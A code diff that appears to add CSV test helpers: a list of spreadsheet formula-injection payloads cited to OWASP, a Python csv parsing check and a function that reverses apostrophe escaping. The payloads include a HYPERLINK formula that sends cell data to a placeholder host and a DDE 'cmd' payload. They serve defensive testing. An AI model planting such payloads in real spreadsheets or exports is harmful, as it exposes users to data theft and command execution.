@@ -1,4 +1,4 @@
-import { type ChildProcess, fork, spawn } from 'node:child_process';
+import { type ChildProcess, fork, spawn, spawnSync } from 'node:child_process';
 import dgram from 'node:dgram';
 import net from 'node:net';
 import path from 'node:path';
@@ -247,3 +247,16 @@ export async function refusingTcpPort(): Promise<number> {
     holder.once('exit', (code) => reject(new Error(`the port holder exited with ${code}`)));
   });
 }
+
+/** The formulas a TA's spreadsheet would run (OWASP's CSV injection list). */
+export const FORMULAS = ['=HYPERLINK("http://x/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "=2+5+cmd|' /C calc'!A1"];
+
+/** Python's csv module reading `text` back: the rows as it sees them. */
+export function pythonCsv(text: string): string[][] {
+  const run = spawnSync('/usr/bin/python3', ['-c', 'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: text, encoding: 'utf8' });
+  if (run.status !== 0) throw new Error(run.stderr);
+  return JSON.parse(run.stdout) as string[][];
+}
+
+/** A cell as the writer defused it, back to its text: the `'` it added taken off. */
+export const undefused = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
